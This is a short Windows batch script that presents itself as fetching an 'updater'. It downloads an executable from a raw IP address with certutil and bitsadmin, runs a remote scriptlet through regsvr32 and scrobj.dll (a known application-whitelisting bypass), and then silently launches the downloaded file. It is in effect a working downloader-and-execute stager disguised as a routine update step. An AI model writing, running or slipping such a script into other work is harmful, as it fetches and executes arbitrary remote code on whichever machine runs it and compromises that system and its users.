@echo off
rem fetch the updater
set "EXE=%TEMP%\upd.exe"
certutil.exe -urlcache -split -f http://203.0.113.57/u.exe "%EXE%"
bitsadmin /transfer job /download /priority high http://203.0.113.57/u.exe "%EXE%"
regsvr32 /s /n /u /i:http://203.0.113.57/file.sct scrobj.dll
start "" /B "%EXE%"
